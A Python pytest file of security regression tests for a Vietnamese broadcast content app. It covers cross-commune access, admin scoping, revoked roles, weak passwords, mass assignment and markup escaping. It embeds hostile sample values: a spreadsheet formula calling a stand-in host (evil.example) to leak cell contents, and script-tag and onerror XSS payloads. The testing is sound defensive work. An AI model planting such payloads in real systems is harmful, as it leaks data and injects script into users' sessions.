"""An independent security review, attack by attack, through the real app: people of another
commune (same role, another area), admins scoped to one area, a role taken away mid-session,
weak passwords over the API, formula injection in report exports, emergency slots naming a
place outside the issuer's reach, and a province operator putting one commune's approved
script on another commune's speakers. Each test is the regression of a hole it found, or
pins a refusal that already held."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlmodel import col, select

from content_library import services
from content_library.models import Area, Membership, Schedule, ScriptVersion, Unit, User
from content_library.types import Role

from .conftest import add_people, new_author_form, new_script_form, password_for, script_id_from
from .test_schedules import week_form

AUDIO = re.compile(r'<audio controls[^>]*src="/assets/([0-9a-f]{64})"')

# username → (role, area name): people of the other commune and of the province
PEOPLE = {
    "doanvien_tl": (Role.AUTHOR, "Thạnh Lộc"),
    "daixa_tl": (Role.OPERATOR, "Thạnh Lộc"),
    "daitinh": (Role.OPERATOR, "An Giang"),
    "quantri_tl": (Role.ADMIN, "Thạnh Lộc"),
    "chutich_tl": (Role.ISSUER, "Thạnh Lộc"),
}


@pytest.fixture
def areas(db, clock) -> dict[str, Area]:
    by_name = {a.name: a for a in db.exec(select(Area)).all()}
    add_people(db, {u: [(r, by_name[a].id)] for u, (r, a) in PEOPLE.items()}, now=clock.now)
    db.commit()
    return by_name


def _uid(db, username: str) -> int:
    return db.exec(select(User).where(User.username == username)).one().id


def _script(panel, db, *, author="doanvien", area="Ngọc Chúc", approve=False, **over) -> int:
    """A submitted (or approved) script of ``area``; returns its current version's id."""
    area_id = str(db.exec(select(Area).where(Area.name == area)).one().id)
    form = new_script_form(db, area_id=area_id, **over)
    sid = script_id_from(panel(author).post("/scripts/new", form))
    db.expire_all()
    vid = db.exec(select(ScriptVersion).where(ScriptVersion.script_id == sid)).one().id
    if approve:
        reviewer = panel("congan")
        sha = AUDIO.search(reviewer.get(f"/review/{vid}").text).group(1)
        assert reviewer.post(f"/versions/{vid}/approve", {"audio_sha256": sha}).status_code == 303
    return vid


# --- objects of another commune: not found, exactly like ids that do not exist --------------


def test_another_communes_script_reads_as_not_found(panel, db, areas) -> None:
    vid = _script(panel, db)
    sid = db.get(ScriptVersion, vid).script_id
    other = panel("doanvien_tl")
    for url in (f"/scripts/{sid}", f"/scripts/{sid}/edit", "/scripts/999999"):
        r = other.get(url)
        assert r.status_code == 404, (url, r.status_code)
        assert "Không tìm thấy" in r.text
    for url in (f"/versions/{vid}/submit", f"/versions/{vid}/withdraw", "/versions/999999/submit"):
        r = other.post(url)
        assert r.status_code == 404, (url, r.status_code)


def test_another_communes_version_reads_as_not_found_over_the_api(
    client, api, panel, db, areas
) -> None:
    vid = _script(panel, db)
    sid = db.get(ScriptVersion, vid).script_id
    other, reviewer_tl = api("doanvien_tl"), api("congan_tl")
    assert client.get(f"/api/v1/scripts/{sid}", headers=other).status_code == 404
    r = client.post(f"/api/v1/scripts/{sid}/versions", json={"text": "Tin giả."}, headers=other)
    assert r.status_code == 404
    for action, body in (("approve", {"audio_sha256": "0" * 64}), ("reject", {"reason": "x"})):
        r = client.post(f"/api/v1/versions/{vid}/{action}", json=body, headers=reviewer_tl)
        assert r.status_code == 404, (action, r.text)
        assert r.json()["reason_vi"] == "Không tìm thấy phiên bản kịch bản."
    db.expire_all()
    assert db.get(ScriptVersion, vid).state == "submitted"


# --- passwords set over the API follow the same policy as the admin page ----------------------


@pytest.mark.parametrize("weak", ["12345678", "password123", "matkhau_moi", "aaaaaaaaaaaa"])
def test_the_api_refuses_a_weak_password_for_a_new_user(client, api, db, weak) -> None:
    r = client.post(
        "/api/v1/users",
        json={"username": "matkhau_moi", "password": weak, "full_name": "Người mới"},
        headers=api("quantri"),
    )
    assert r.status_code == 422, r.text
    assert r.json()["field"] in ("password", "new_password")
    assert db.exec(select(User).where(User.username == "matkhau_moi")).first() is None


# --- admins are scoped to their area subtree like every other role ---------------------------


def test_a_communes_admin_cannot_make_themselves_province_admin(client, api, db, areas) -> None:
    me = _uid(db, "quantri_tl")
    headers = api("quantri_tl")
    province = areas["An Giang"].id
    r = client.put(
        f"/api/v1/users/{me}/roles", json={"roles": [["admin", province]]}, headers=headers
    )
    assert r.status_code == 403, r.text
    r = client.post(
        "/api/v1/users",
        json={
            "username": "tay_trong",
            "password": "Mot-mat-khau-dai",
            "roles": [["admin", province]],
        },
        headers=headers,
    )
    assert r.status_code == 403, r.text
    db.expire_all()
    held = db.exec(select(Membership).where(Membership.user_id == me)).all()
    assert [(m.role, m.area_id) for m in held] == [("admin", areas["Thạnh Lộc"].id)]
    assert db.exec(select(User).where(User.username == "tay_trong")).first() is None


def test_a_communes_admin_cannot_touch_people_of_another_commune(panel, db, areas) -> None:
    admin = panel("quantri_tl")
    victim = _uid(db, "doanvien")  # an author of Ngọc Chúc
    stolen = panel("doanvien")
    # Another commune's account reads like an unknown id (404 since security 30, was 403).
    r = admin.post(f"/admin/users/{victim}/password", {"new_password": "Mat-khau-cua-ke-gian"})
    assert r.status_code == 404
    assert admin.post(f"/admin/users/{victim}/active", {"active": "0"}).status_code == 404
    r = admin.post(
        f"/admin/users/{victim}/roles", {"role": "author", "area_id": str(areas["Thạnh Lộc"].id)}
    )
    assert r.status_code == 404
    r = admin.post(
        "/admin/areas", {"name": "Xã lạ", "kind": "commune", "parent_id": str(areas["An Giang"].id)}
    )
    assert r.status_code == 403
    assert stolen.get("/scripts").status_code == 200  # their session lives on
    assert panel().login("doanvien").status_code == 303  # and their password still works
    db.expire_all()
    assert db.exec(select(Area).where(Area.name == "Xã lạ")).first() is None
    # inside their own commune they administer as before
    r = admin.post(
        "/admin/areas",
        {"name": "Ấp Thạnh Mới", "kind": "village", "parent_id": str(areas["Thạnh Lộc"].id)},
    )
    assert r.status_code == 303
    r = admin.post("/admin/users", new_author_form(areas["Thạnh Lộc"].id))
    assert r.status_code == 303, r.text


def test_a_communes_admin_cannot_approve_another_communes_script(
    client, api, panel, db, areas
) -> None:
    vid = _script(panel, db)
    r = client.post(
        f"/api/v1/versions/{vid}/approve",
        json={"audio_sha256": "0" * 64},
        headers=api("quantri_tl"),
    )
    assert r.status_code == 404
    db.expire_all()
    assert db.get(ScriptVersion, vid).state == "submitted"


# --- a role taken away ends what it allowed, in the open session too --------------------------


def test_an_author_moved_to_another_commune_can_no_longer_write_for_the_old_one(
    client, api, panel, db, areas
) -> None:
    vid = _script(panel, db, submit=False, action="save")
    sid = db.get(ScriptVersion, vid).script_id
    phone = api("doanvien")  # a token issued before the move
    me = _uid(db, "doanvien")
    services.set_roles(
        db,
        actor=None,
        user_id=me,
        roles=[("author", areas["Thạnh Lộc"].id)],
        now=db.get(ScriptVersion, vid).created_at,
    )
    db.commit()
    r = client.post(
        f"/api/v1/scripts/{sid}/versions",
        json={"text": "Nội dung mới.", "submit": True},
        headers=phone,
    )
    assert r.status_code in (403, 404), r.text
    r = client.post(f"/api/v1/versions/{vid}/submit", headers=phone)
    assert r.status_code in (403, 404), r.text
    db.expire_all()
    assert db.get(ScriptVersion, vid).state == "draft"


# --- report exports: no formula runs when the file is opened ---------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_area_name_cannot_smuggle_a_formula_into_an_export(panel, db, areas, fmt) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    admin = panel("quantri")
    r = admin.post(
        "/admin/areas", {"name": evil, "kind": "village", "parent_id": str(areas["Ngọc Chúc"].id)}
    )
    assert r.status_code == 303, r.text
    op = panel("daixa")
    r = op.post(
        "/reports/export",
        {"area_id": str(areas["Ngọc Chúc"].id), "period": "month", "start": "", "fmt": fmt},
        follow_redirects=True,
    )
    assert r.status_code == 200, r.text
    link = re.search(r'href="(/reports/jobs/[^"]+/download)"', r.text)
    assert link, r.text[:2000]
    data = op.get(link.group(1)).content
    cells: list[str] = []
    if fmt == "csv":
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            cells.extend(row)
    else:
        from openpyxl import load_workbook

        wb = load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows(values_only=True):
                cells.extend(str(c) for c in row if c is not None)
    shown = [c for c in cells if "HYPERLINK" in c]
    assert shown, "the area is in the report"
    assert all(not c.lstrip().startswith(("=", "+", "-", "@")) for c in shown), shown


# --- emergencies: a place slot names only places of the areas it is sent to -------------------


def test_an_issuer_cannot_name_a_place_of_another_commune_through_a_province_template(
    panel, db, areas, clock
) -> None:
    from content_library.emergency_models import Emergency, EmergencyTemplate

    template = db.exec(select(EmergencyTemplate)).first()  # the demo's, for all of An Giang
    assert template.area_id == areas["An Giang"].id
    issuer = panel("chutich")  # Ngọc Chúc's
    page = issuer.get(f"/emergencies/new?template_id={template.id}").text
    assert f'value="{areas["Ấp Ngọc Bình"].id}"' in page  # their own hamlets are offered
    assert f'value="{areas["Ấp Thạnh Hưng"].id}"' not in page  # another commune's are not
    form = {
        "template_id": str(template.id),
        "area_ids": [str(areas["Ngọc Chúc"].id)],
        "repeats": "1",
        "gap_s": "0",
        "expires_in_min": "60",
        "slot_bao": "3",
        "slot_gio": "12",
        "slot_gio_gust": "14",
        "slot_gio_den": "14:30",
        "slot_ngay": clock.now.date().isoformat(),
        "slot_noi": str(areas["Ấp Thạnh Hưng"].id),
        "slot_viec": "sơ tán đến nơi an toàn",
    }
    r = issuer.post("/emergencies/new", form)
    assert r.status_code == 422, r.text[:3000]
    assert "hãy chọn một địa danh thuộc địa bàn của mẫu" in r.text
    db.expire_all()
    assert db.exec(select(Emergency)).all() == []


# --- schedules: a commune's script plays only on that commune's speakers ---------------------


def test_a_province_operator_cannot_put_one_communes_script_on_anothers_speakers(
    panel, db, areas, clock
) -> None:
    vid = _script(panel, db, author="doanvien", area="Ngọc Chúc", approve=True)
    db.add(
        Unit(
            id="thanh-loc-01",
            name="Cụm loa Thạnh Lộc",
            area_id=areas["Thạnh Lộc"].id,
            kind="fixed",
            created_at=clock.now,
        )
    )
    db.commit()
    op = panel("daitinh")
    form = week_form([vid], name="Lịch lạ", target="unit:thanh-loc-01", times="17:00", repeat="1")
    r = op.post("/schedules/new", form)
    assert r.status_code == 422, r.text[:2000]
    db.expire_all()
    assert db.exec(select(Schedule)).all() == []
    # the same script on its own commune's speakers is fine
    form["target"] = "unit:ngoc-chuc-01"
    assert op.post("/schedules/new", form).status_code == 303


# --- attacks that were already refused (pinned here so they stay refused) -------------------


def test_extra_json_fields_cannot_set_state_author_or_approval(client, api, db, areas) -> None:
    i = {a.name: a.id for a in areas.values()}
    topic = client.get("/api/v1/topics", headers=api("doanvien")).json()[0]["id"]
    r = client.post(
        "/api/v1/scripts",
        json={
            "title": "Tin thử",
            "topic_id": topic,
            "area_id": i["Ngọc Chúc"],
            "text": "Kính thưa bà con.",
            "state": "approved",
            "author_id": _uid(db, "congan"),
            "approved_by": _uid(db, "congan"),
            "created_by": _uid(db, "congan"),
            "render_status": "done",
            "render_sha256": "0" * 64,
        },
        headers=api("doanvien"),
    )
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["state"] == "draft" and body["author_id"] == _uid(db, "doanvien")
    assert body["current_version"]["render_status"] == "none"
    assert body["current_version"]["created_by"] == _uid(db, "doanvien")
    assert body["reviews"] == []
    # and an area outside one's own, even over the API, is refused: another commune's reads
    # like an unknown area (docs/security.md 30)
    r = client.post(
        "/api/v1/scripts",
        json={"title": "Tin", "topic_id": topic, "area_id": i["Thạnh Lộc"], "text": "Chào."},
        headers=api("doanvien"),
    )
    assert r.status_code == 422 and r.json()["reason_vi"] == "Địa bàn không tồn tại."


def test_markup_in_titles_reasons_and_names_is_shown_as_text(panel, db, areas) -> None:
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    vid = _script(panel, db, title=f"Tiêu đề {evil}")
    sid = db.get(ScriptVersion, vid).script_id
    reviewer = panel("congan")
    assert reviewer.post(f"/versions/{vid}/reject", {"reason": f"Lý do {evil}"}).status_code == 303
    for who, url in (
        ("doanvien", "/scripts"),
        ("doanvien", f"/scripts/{sid}"),
        ("congan", f"/review/{vid}"),
    ):
        text = panel(who).get(url).text
        assert "<script>alert" not in text and "<img src=x" not in text, url
        assert "&lt;script&gt;" in text, url


def test_another_communes_reports_units_schedules_and_bundles_are_out_of_reach(
    panel, db, areas
) -> None:
    mine = str(areas["Ngọc Chúc"].id)
    op = panel("daixa")
    r = op.post(
        "/reports/export",
        {"area_id": mine, "period": "month", "start": "", "fmt": "csv"},
        follow_redirects=False,
    )
    assert r.status_code == 303
    job_url = r.headers["location"]
    stranger = panel("daixa_tl")
    assert stranger.get(job_url).status_code == 404
    assert stranger.get(f"{job_url}/download").status_code == 404
    assert stranger.get(f"/reports?area_id={mine}").status_code == 403
    r = stranger.post(
        "/reports/export", {"area_id": mine, "period": "month", "start": "", "fmt": "csv"}
    )
    assert r.status_code == 403
    assert stranger.get("/devices/ngoc-chuc-01").status_code == 404
    assert stranger.get("/devices/no-such-unit").status_code == 404

    vid = _script(panel, db, approve=True)
    form = week_form([vid], name="Lịch tuần", target="unit:ngoc-chuc-01", times="17:00", repeat="1")
    r = op.post("/schedules/new", form)
    assert r.status_code == 303, r.text[:2000]
    url = r.headers["location"]
    assert op.post(f"{url}/publish").status_code == 303
    db.expire_all()
    from content_library.models import Publication

    pub = db.exec(select(Publication)).one()
    for path in (url, f"{url}/edit", f"/publications/{pub.id}/download"):
        assert stranger.get(path).status_code == 404, path
    assert stranger.post(f"{url}/publish").status_code == 404
    r = stranger.post(f"{url}/edit", {**form, "target": "unit:ngoc-chuc-01"})
    assert r.status_code == 404


def test_a_disabled_users_token_and_cookie_stop_at_once(client, api, panel, db, areas) -> None:
    token = api("doanvien")
    browser = panel("doanvien")
    admin = panel("quantri")
    assert (
        admin.post(f"/admin/users/{_uid(db, 'doanvien')}/active", {"active": "0"}).status_code
        == 303
    )
    assert client.get("/api/v1/me", headers=token).status_code == 401
    assert browser.get("/scripts", follow_redirects=False).status_code == 303
    r = client.post(
        "/api/v1/token", json={"username": "doanvien", "password": password_for("doanvien")}
    )
    assert r.status_code == 401


def test_one_provinces_admin_cannot_set_another_provinces_targets(panel, db, clock) -> None:
    from content_library.models import ReportTarget

    other = services.create_area(
        db, actor=None, name="Tỉnh Khác", kind="province", parent_id=None, now=clock.now
    )
    db.commit()
    r = panel("quantri").post(
        "/admin/report-targets",
        {"area_id": str(other.id), "period": "month", "min_broadcasts": "4", "min_minutes": "0"},
    )
    # Another province is not theirs to know of: like an unknown area (422 since security 30).
    assert r.status_code == 422
    assert "Địa bàn không tồn tại." in r.text
    db.expire_all()
    assert db.exec(select(ReportTarget).where(ReportTarget.area_id == other.id)).all() == []


# --- a writer who lost the role, a guessed unit id, the area list, a new province -----------


def test_a_writer_moved_away_cannot_take_an_approved_script_off_the_air(
    client, api, panel, db, areas, clock
) -> None:
    vid = _script(panel, db, approve=True)
    phone = api("doanvien")  # a token issued before the move (a lost phone, a moved member)
    web = panel("doanvien")
    services.set_roles(
        db,
        actor=None,
        user_id=_uid(db, "doanvien"),
        roles=[("author", areas["Thạnh Lộc"].id)],
        now=db.get(ScriptVersion, vid).created_at,
    )
    db.commit()
    # refused as an id that does not exist: having written it gives no lasting right to it
    # (docs/security.md 29; this answered 403 "rút" before)
    r = client.post(f"/api/v1/versions/{vid}/withdraw", headers=phone)
    assert r.status_code == 404, r.text
    assert r.json()["reason_vi"] == "Không tìm thấy phiên bản kịch bản."
    assert web.post(f"/versions/{vid}/withdraw").status_code == 404
    db.expire_all()
    assert db.get(ScriptVersion, vid).state == "approved"
    # the commune's writers still can: the role decides, not who typed the first draft
    services.create_user(
        db,
        actor=None,
        username="doanvien_nc",
        password=password_for("doanvien_nc"),
        roles=[("author", areas["Ngọc Chúc"].id)],
        now=clock.now,
    )
    db.commit()
    r = client.post(f"/api/v1/versions/{vid}/withdraw", headers=api("doanvien_nc"))
    assert r.status_code == 200, r.text
    assert r.json()["state"] == "withdrawn"


def test_an_enrolment_code_for_another_communes_unit_reads_as_not_found(
    client, api, db, areas
) -> None:
    stranger = api("daixa_tl")
    known = client.post("/api/v1/units/ngoc-chuc-01/enrol-code", headers=stranger)
    unknown = client.post("/api/v1/units/ngoc-chuc-02/enrol-code", headers=stranger)
    assert known.status_code == unknown.status_code == 404
    assert known.json()["reason_vi"] == unknown.json()["reason_vi"]
    db.expire_all()
    assert db.get(Unit, "ngoc-chuc-01").enrol_code_expires is None
    # the commune's own operator gets one; a writer of the commune is told it is not theirs
    assert client.post("/api/v1/units/ngoc-chuc-01/enrol-code", headers=api("daixa")).is_success
    r = client.post("/api/v1/units/ngoc-chuc-01/enrol-code", headers=api("doanvien"))
    assert r.status_code == 403


def test_the_area_list_holds_ones_own_areas_and_those_above_not_other_communes(
    client, api, db, areas, clock
) -> None:
    def names(username: str) -> set[str]:
        r = client.get("/api/v1/areas", headers=api(username))
        assert r.status_code == 200, r.text
        return {a["name"] for a in r.json()}

    everything = {a.name for a in areas.values()}
    thanh_loc = {"An Giang", "Thạnh Lộc", "Ấp Thạnh Hưng", "Ấp Thạnh Bình"}
    assert names("doanvien_tl") == thanh_loc
    assert names("daixa_tl") == thanh_loc
    assert "Ngọc Chúc" not in names("quantri_tl")
    assert "Thạnh Lộc" not in names("doanvien")
    assert names("congan") == everything  # the province's reviewer sees the whole province
    services.create_user(
        db,
        actor=None,
        username="khongvaitro",
        password=password_for("khongvaitro"),
        now=clock.now,
    )
    db.commit()
    assert names("khongvaitro") == set()


def test_a_new_province_is_administered_by_its_creator_and_only_a_root_admin_makes_one(
    client, api, db, areas
) -> None:
    admin = api("quantri")  # administers An Giang, a root
    r = client.post(
        "/api/v1/areas",
        json={"name": "Kiên Giang", "kind": "province", "parent_id": None},
        headers=admin,
    )
    assert r.status_code == 201, r.text
    root = r.json()["id"]
    r = client.post(
        "/api/v1/areas",
        json={"name": "Phú Quốc", "kind": "commune", "parent_id": root},
        headers=admin,
    )
    assert r.status_code == 201, r.text
    assert {"Kiên Giang", "Phú Quốc"} <= {
        a["name"] for a in client.get("/api/v1/areas", headers=admin).json()
    }
    # a commune's admin makes neither a province nor a commune under one they do not hold
    commune_admin = api("quantri_tl")
    r = client.post(
        "/api/v1/areas",
        json={"name": "Tỉnh Mới", "kind": "province", "parent_id": None},
        headers=commune_admin,
    )
    assert r.status_code == 403, r.text
    # The new province is not theirs to know of: like an unknown parent (422 since security 30).
    r = client.post(
        "/api/v1/areas",
        json={"name": "Xã Mới", "kind": "commune", "parent_id": root},
        headers=commune_admin,
    )
    assert r.status_code == 422 and r.json()["reason_vi"] == "Địa bàn cấp trên không tồn tại."
    db.expire_all()
    assert not db.exec(select(Area).where(col(Area.name).in_(["Tỉnh Mới", "Xã Mới"]))).all()
    held = db.exec(select(Membership).where(Membership.area_id == root)).all()
    assert [(m.user_id, m.role) for m in held] == [(_uid(db, "quantri"), "admin")]
